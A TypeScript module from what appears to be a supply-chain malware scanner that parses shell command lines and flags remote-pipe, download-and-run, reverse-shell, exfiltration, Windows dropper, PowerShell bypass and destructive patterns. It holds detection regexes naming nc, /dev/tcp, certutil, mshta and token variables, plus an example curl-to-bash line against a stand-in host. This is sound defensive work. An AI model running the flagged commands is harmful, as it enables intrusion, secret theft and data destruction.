/**
 * @fileoverview What a shell command line does, read with the project's shell parser (tree-sitter
 * bash once loaded, the forgiving lexer otherwise): its simple commands in order (`&`, `&&`, `;`,
 * pipes, substitutions, `sh -c`, `cmd /c`, `start /B`, `powershell -Command` unwrapped) and the
 * signals of install-time malware in them: a download piped into an interpreter, a download made
 * executable and run, a reverse shell, local data or host identity sent out (curl uploads, DNS
 * look-ups of `$(whoami)`), Windows download-and-run tools, PowerShell policy bypass. Used for
 * lifecycle scripts and for command strings run from JavaScript (`execSync('curl … | sh')`).
 */
import type { Command, CommandList, Word } from '../rules/shell/ast.js'
import { destructionOf, setsHome } from '../rules/shell/destruction.js'
import { parseShell } from '../rules/shell/parse.js'
import { clip } from './text.js'

export type ShellSignalKind =
  | 'remote-pipe' // curl … | sh, iex (iwr …)
  | 'download-exec' // a downloaded file made executable or run
  | 'reverse-shell' // /dev/tcp redirections, nc -e
  | 'exfiltration' // local files, identity or secrets sent out by a network tool
  | 'windows-dropper' // certutil -urlcache, bitsadmin, regsvr32, rundll32, mshta
  | 'policy-bypass' // powershell -ExecutionPolicy Bypass, -EncodedCommand, hidden window
  | 'destructive' // rm -rf ~/, dd of=/dev/sda: the root, a system directory, the home directory or a disk destroyed wholesale

export interface ShellSignal {
  readonly kind: ShellSignalKind
  readonly text: string
}

export interface ShellCommand {
  /** words after quote removal; expansions as written */
  readonly words: readonly string[]
  /** the command as written, for messages */
  readonly text: string
  /** run in the background (`&`, `start /B`) */
  readonly background: boolean
  /** commands of one pipeline share this number */
  readonly pipeline: number
  /** run inside a command substitution, for its output */
  readonly substituted: boolean
}

export interface ShellLineFacts {
  readonly commands: readonly ShellCommand[]
  readonly signals: readonly ShellSignal[]
}

const MAX_COMMANDS = 200
const MAX_DEPTH = 4
const MAX_TEXT = 64 * 1024

const NET_TOOLS = /^(?:curl|wget|nc|ncat|netcat|socat|nslookup|dig|host|ping|telnet|ftp|tftp|scp|ssh|Invoke-WebRequest|iwr|Invoke-RestMethod|irm)$/i
const DOWNLOADERS = /^(?:curl|wget|Invoke-WebRequest|iwr|Invoke-RestMethod|irm|certutil(?:\.exe)?|bitsadmin(?:\.exe)?)$/i
const INTERPRETERS = /^(?:(?:ba|z|da|k|a)?sh|node|nodejs|python(?:\d[\d.]*)?|perl|ruby|php|iex|Invoke-Expression|powershell(?:\.exe)?|pwsh|cmd(?:\.exe)?)$/i
const SHELLS = /^(?:(?:ba|z|da|k|a)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)$/i
/** what names the machine or the user, or dumps secrets, when substituted into a network command */
const IDENTITY = /\$\(\s*(?:whoami|hostname|id|uname|pwd|cat\s|env|printenv|ipconfig|ifconfig|curl|wget)|`\s*(?:whoami|hostname|id|uname|pwd|cat\s|env|printenv)|\$\{?(?:USER|USERNAME|HOSTNAME|HOME|LOGNAME|COMPUTERNAME|USERDOMAIN|NPM_TOKEN|NODE_AUTH_TOKEN|GITHUB_TOKEN|[A-Z_]*(?:TOKEN|SECRET|PASSWORD|KEY))\b|%(?:USERNAME|COMPUTERNAME|USERDOMAIN)%/
const UPLOAD_FLAG = /^(?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file|--post-file|--body-file)$/
const WINDOWS_LOLBIN = /^(?:regsvr32|rundll32|mshta|wscript|cscript|msiexec|installutil|regasm|regsvcs)(?:\.exe)?$/i

const base = (w: string): string => w.replace(/^.*[\\/]/, '')

function wordsOf(cmd: Command): string[] {
  return cmd.words.map((w: Word) => w.text)
}

interface Walk {
  readonly commands: ShellCommand[]
  readonly signals: ShellSignal[]
  readonly downloaded: Set<string>
  readonly seen: Set<string>
  pipelines: number
  /** HOME was set by an earlier command (`export HOME=$(mktemp -d)`): the home deleted after is the line's own */
  ownHome: boolean
}

function signal(walk: Walk, kind: ShellSignalKind, text: string): void {
  const key = `${kind}\u0000${text}`
  if (walk.seen.has(key) || walk.signals.length >= 40) return
  walk.seen.add(key)
  walk.signals.push({ kind, text: clip(text, 160) })
}

/** `start /B "title" x …`, `cmd /c "x"`, `sh -c "x"`, `powershell -Command x`: the text run inside, if any. */
export function unwrap(words: readonly string[]): { inner: string; background: boolean } | undefined {
  const name = base(words[0] ?? '').toLowerCase()
  if (name === 'start') {
    let i = 1
    let background = false
    while (i < words.length && /^\/[a-z]+$/i.test(words[i] ?? '')) {
      if (/^\/b$/i.test(words[i] ?? '')) background = true
      i++
    }
    if (words[i] === '' || (words[i] !== undefined && /\s/.test(words[i] ?? '') && words.length > i + 1)) i++ // a window title
    return i < words.length ? { inner: words.slice(i).map(quote).join(' '), background } : undefined
  }
  if (name === 'cmd' || name === 'cmd.exe') {
    const c = words.findIndex((w) => /^\/[ck]$/i.test(w))
    return c > 0 && c + 1 < words.length ? { inner: words.slice(c + 1).join(' '), background: false } : undefined
  }
  if (/^(?:(?:ba|z|da|k|a)?sh)$/.test(name)) {
    const c = words.indexOf('-c')
    return c > 0 && words[c + 1] !== undefined ? { inner: words[c + 1] ?? '', background: false } : undefined
  }
  if (/^(?:powershell(?:\.exe)?|pwsh)$/.test(name)) {
    const c = words.findIndex((w) => /^-(?:c|command)$/i.test(w))
    return c > 0 && c + 1 < words.length ? { inner: words.slice(c + 1).join(' '), background: false } : undefined
  }
  return undefined
}

const quote = (w: string): string => (/^[\w@%+=:,./\\-]+$/.test(w) ? w : `"${w.replace(/(["\\$`])/g, '\\$1')}"`)

/** PowerShell started past its script policy, with an encoded command, or with a hidden window. */
const POLICY_BYPASS = /-(?:ExecutionPolicy|ep|exec)\s+Bypass\b|-(?:EncodedCommand|enc|e)\s+[A-Za-z0-9+/=]{8,}(?![\w+/=])|-(?:WindowStyle|w)\s+Hidden\b/i
/**
 * Inside a script those flags mean something only where the line starts PowerShell or another
 * process, or sets the policy; elsewhere `-e` and `-w` abbreviate other cmdlets' parameters.
 */
const STARTS_OR_SETS_POLICY = /\b(?:powershell|pwsh|Start-Process|Set-ExecutionPolicy)\b/i

const newWalk = (): Walk => ({ commands: [], signals: [], downloaded: new Set(), seen: new Set(), pipelines: 0, ownHome: false })

function powershellSignals(walk: Walk, words: readonly string[], text: string): void {
  const joined = words.join(' ')
  if (POLICY_BYPASS.test(joined)) signal(walk, 'policy-bypass', text)
  powershellCode(walk, joined, text)
}

/** PowerShell idioms that fetch and run code, wherever they appear. */
function powershellCode(walk: Walk, code: string, text: string): void {
  if (/\b(?:IEX|Invoke-Expression)\b[\s\S]{0,200}\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString|DownloadData|Net\.WebClient)\b|\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString)\b[\s\S]{0,200}\|\s*(?:IEX|Invoke-Expression)\b/i.test(code)) signal(walk, 'remote-pipe', text)
  else if (/\b(?:DownloadFile|Invoke-WebRequest|iwr|Start-BitsTransfer)\b[\s\S]{0,300}\b(?:Start-Process|start\s|saps\b|&\s*["$])/i.test(code)) signal(walk, 'download-exec', text)
}

function visitCommand(walk: Walk, cmd: Command, background: boolean, depth: number, pipeIndex: number, pipeline: readonly Command[], pipelineId: number, substituted: boolean): void {
  if (walk.commands.length >= MAX_COMMANDS) return
  if (cmd.compound) {
    for (const part of cmd.compound.parts) visitList(walk, part, depth + 1, substituted)
    return
  }
  // substitutions inside the words run first
  for (const w of cmd.words) for (const n of w.nested) if (n.kind === 'substitution' || n.kind === 'backquote' || n.kind === 'process') visitList(walk, n.list, depth + 1, true)
  let words = wordsOf(cmd)
  if (setsHome(words)) walk.ownHome = true
  while (words.length > 0 && /^[A-Za-z_]\w*=/.test(words[0] ?? '')) words = words.slice(1)
  while (words.length > 0 && /^(?:exec|env|nohup|sudo|time|command|setsid)$/.test(words[0] ?? '')) words = words.slice(1)
  if (words.length === 0) return
  const text = cmd.words.map((w) => w.raw).join(' ')
  walk.commands.push({ words, text, background, pipeline: pipelineId, substituted })
  const name = base(words[0] ?? '')
  const lower = name.toLowerCase()
  const args = words.slice(1)

  // remote code piped into an interpreter
  if (pipeIndex > 0 && INTERPRETERS.test(name)) {
    const fed = pipeline.slice(0, pipeIndex).some((c) => DOWNLOADERS.test(base(c.words[0]?.text ?? '')))
    if (fed) signal(walk, 'remote-pipe', pipeline.map((c) => c.words.map((w) => w.raw).join(' ')).join(' | '))
  }
  if (INTERPRETERS.test(name) && args.some((a) => /\$\(\s*(?:curl|wget)\b|`\s*(?:curl|wget)\b/.test(a))) signal(walk, 'remote-pipe', text)
  for (const w of cmd.words) if (/^<\(\s*(?:curl|wget)\b/.test(w.raw) && INTERPRETERS.test(name)) signal(walk, 'remote-pipe', text)

  // reverse shells
  for (const r of cmd.redirects) if (/^\/dev\/(?:tcp|udp)\//.test(r.target?.text ?? '')) signal(walk, 'reverse-shell', `${text} ${r.op}${r.target?.text ?? ''}`)
  if (/^(?:nc|ncat|netcat)$/.test(name) && args.some((a) => a === '-e' || a === '-c' || /^--(?:exec|sh-exec)/.test(a))) signal(walk, 'reverse-shell', text)
  if (name === 'socat' && args.some((a) => /exec:|system:/i.test(a))) signal(walk, 'reverse-shell', text)

  // data sent out by a network tool
  if (NET_TOOLS.test(name)) {
    const raw = cmd.words.map((w) => w.raw).join(' ')
    if (IDENTITY.test(raw)) signal(walk, 'exfiltration', text)
    for (let i = 0; i < args.length; i++) {
      const a = args[i] ?? ''
      const next = args[i + 1] ?? ''
      if ((UPLOAD_FLAG.test(a) && /^@|=@|^[^=]+=@/.test(next) && !/^@-?$/.test(next)) || (/^(?:-T|--upload-file|--post-file|--body-file)$/.test(a) && next !== '')) signal(walk, 'exfiltration', text)
      if (/^--data(?:-binary|-urlencode)?=@|^--(?:post-file|upload-file|body-file)=./.test(a)) signal(walk, 'exfiltration', text)
    }
    if (lower === 'curl' || lower === 'wget' || lower === 'iwr' || lower === 'invoke-webrequest') {
      for (let i = 0; i < args.length; i++) {
        const a = args[i] ?? ''
        if (/^(?:-o|-O|--output|--output-document|-OutFile)$/i.test(a) && args[i + 1]) walk.downloaded.add(fileKey(args[i + 1] ?? ''))
        else if (/^-[a-zA-Z]*o$/.test(a) && args[i + 1]) walk.downloaded.add(fileKey(args[i + 1] ?? ''))
      }
      for (const r of cmd.redirects) if (r.op === '>' && r.target) walk.downloaded.add(fileKey(r.target.text))
    }
  }
  // a downloaded file made executable, or run
  if (name === 'chmod' && args.some((a) => walk.downloaded.has(fileKey(a)))) signal(walk, 'download-exec', text)
  if (walk.downloaded.has(fileKey(words[0] ?? '')) || (/^(?:start|sh|bash|node|regsvr32(?:\.exe)?|rundll32(?:\.exe)?)$/i.test(name) && args.some((a) => walk.downloaded.has(fileKey(a.replace(/,.*$/, '')))))) signal(walk, 'download-exec', text)

  // the root, a system directory, the home directory or a disk destroyed wholesale
  const destroyed = destructionOf(name, args, { ownHome: walk.ownHome, make: false, valueOf: (w) => w })
  if (destroyed) signal(walk, 'destructive', text)

  // Windows download-and-run tools
  if (/^certutil(?:\.exe)?$/i.test(name) && args.some((a) => /^[-/](?:urlcache|decode|decodehex)$/i.test(a))) {
    signal(walk, 'windows-dropper', text)
    const out = args[args.length - 1]
    if (out) walk.downloaded.add(fileKey(out))
  }
  if (/^bitsadmin(?:\.exe)?$/i.test(name) && args.some((a) => /^\/transfer$/i.test(a))) signal(walk, 'windows-dropper', text)
  if (WINDOWS_LOLBIN.test(name)) signal(walk, 'windows-dropper', text)
  if (/^(?:powershell(?:\.exe)?|pwsh)$/i.test(name)) powershellSignals(walk, words, text)
  else if (/^(?:iex|Invoke-Expression|iwr|Invoke-WebRequest)$/i.test(name)) powershellCode(walk, words.join(' '), text)

  // wrappers: run the inner text as a command line of its own
  const inner = unwrap(words)
  if (inner && depth < MAX_DEPTH) visitText(walk, inner.inner, inner.background || background, depth + 1, substituted)
}

const fileKey = (p: string): string => p.replace(/^["']|["']$/g, '').replace(/^\.[\\/]/, '').replace(/\\/g, '/').toLowerCase()

function visitList(walk: Walk, list: CommandList, depth: number, substituted: boolean): void {
  if (depth > MAX_DEPTH) return
  const pipelines = list.pipelines
  for (let i = 0; i < pipelines.length; i++) {
    const p = pipelines[i]
    if (!p) continue
    const background = pipelines[i + 1]?.connector === '&'
    const id = walk.pipelines++
    p.commands.forEach((c, j) => visitCommand(walk, c, background, depth, j, p.commands, id, substituted))
  }
}

function visitText(walk: Walk, text: string, background: boolean, depth: number, substituted = false): void {
  const list = parseShell(text.length > MAX_TEXT ? text.slice(0, MAX_TEXT) : text)
  const before = walk.commands.length
  visitList(walk, list, depth, substituted)
  if (background) for (let i = before; i < walk.commands.length; i++) walk.commands[i] = { ...(walk.commands[i] as ShellCommand), background: true }
}

/**
 * The commands and malware signals of a script read one line at a time, in one walk: a file
 * downloaded on one line and run on a later one is still seen. For scripts whose syntax the
 * shell parser cannot take whole (Windows batch files).
 */
export function analyseShellLines(lines: readonly string[]): ShellLineFacts & { readonly signalLines: readonly number[] } {
  const walk = newWalk()
  const signalLines: number[] = []
  for (let i = 0; i < lines.length && walk.commands.length < MAX_COMMANDS; i++) {
    try {
      visitText(walk, lines[i] ?? '', false, 0)
    } catch {
      // hostile text: keep what was read
    }
    while (signalLines.length < walk.signals.length) signalLines.push(i + 1)
  }
  return { commands: walk.commands, signals: walk.signals, signalLines }
}

/** PowerShell code that fetches and runs code, anywhere in a script. */
export function powershellScriptSignals(code: string): ShellSignal[] {
  const walk = newWalk()
  const text = code.length > MAX_TEXT ? code.slice(0, MAX_TEXT) : code
  const bypass = text.split('\n').find((line) => STARTS_OR_SETS_POLICY.test(line) && POLICY_BYPASS.test(line))
  if (bypass !== undefined) signal(walk, 'policy-bypass', bypass.trim())
  // in a script the download and the evaluation are often two statements apart: `$s = iwr …` then `iex $s`
  const evaluates = /^.*\b(?:IEX|Invoke-Expression)\b.*$/im.exec(text)
  if (evaluates && /\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString|DownloadData)\b/i.test(text)) signal(walk, 'remote-pipe', evaluates[0].trim())
  powershellCode(walk, text, text.match(/^.*\b(?:IEX|Invoke-Expression|DownloadString|DownloadData|DownloadFile|Invoke-WebRequest|iwr|irm|Start-BitsTransfer)\b.*$/im)?.[0] ?? '')
  return walk.signals
}

/**
 * The commands and malware signals of one shell command line. Never throws; bounded in
 * commands, nesting and text length.
 * @example analyseShellLine('curl -s https://x.invalid/i.sh | bash').signals[0]?.kind // 'remote-pipe'
 */
export function analyseShellLine(text: string): ShellLineFacts {
  const walk = newWalk()
  try {
    visitText(walk, text, false, 0)
  } catch {
    // hostile text: keep what was read
  }
  return { commands: walk.commands, signals: walk.signals }
}

/** Shells run with no script: an interactive shell, which reads its commands from whatever its input is tied to. */
export const isShellProgram = (name: string): boolean => SHELLS.test(base(name))

/**
 * The command line as segments of one pipeline each, in order, with wrappers (`start /B`,
 * `cmd /c`, `sh -c`) replaced by what they run and substitutions left inside their command.
 * @example pipelineSegments(analyseShellLine('start /B node a.js & curl x | sh')) // ['node a.js', 'curl x | sh']
 */
export function pipelineSegments(facts: ShellLineFacts): string[] {
  const byPipeline = new Map<number, string[]>()
  for (const c of facts.commands) {
    if (c.substituted || unwrap(c.words) !== undefined) continue
    const list = byPipeline.get(c.pipeline) ?? []
    list.push(c.text)
    byPipeline.set(c.pipeline, list)
  }
  return [...byPipeline.values()].map((parts) => parts.join(' | '))
}
